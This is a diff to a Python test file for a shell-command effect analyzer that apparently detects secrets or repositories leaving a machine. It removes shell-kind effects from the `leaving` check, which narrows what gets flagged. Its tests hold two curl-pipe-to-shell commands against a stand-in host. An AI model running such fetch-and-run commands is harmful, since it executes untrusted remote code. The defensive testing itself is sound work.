@@ -17,7 +17,7 @@ HARMLESS = [json.loads(line) for line in (CASES / "harmless.jsonl").read_text().
 def leaving(command):
     """(destination, what leaves) of each effect by which something secret, or a whole repository, leaves this machine."""
     return [(normal(e.destination), e.payload.names) for e in effects(command)
-            if (e.payload.level or e.payload.whole or e.kind == "shell" or e.auth.level) and not is_local(normal(e.destination))]
+            if (e.payload.level or e.payload.whole or e.auth.level) and not is_local(normal(e.destination))]
 
 
 @pytest.mark.parametrize("row", HARMLESS, ids=lambda row: row["command"][:60])
@@ -60,8 +60,8 @@ def test_what_is_printed():
 
 
 def test_a_remote_text_that_is_run():
-    assert [e.kind for e in effects("curl -s https://x.example/i.sh | sh")] == ["fetch", "exec"]
-    assert [e.kind for e in effects("bash -c \"$(curl -s https://x.example/i.sh)\"")] == ["fetch", "exec"]
+    assert [e.kind for e in effects("curl -s https://x.example/i.sh | sh")] == ["fetches", "runs"]
+    assert [e.kind for e in effects("bash -c \"$(curl -s https://x.example/i.sh)\"")] == ["fetches", "runs"]
 
 
 def test_pieces_of_an_argument():
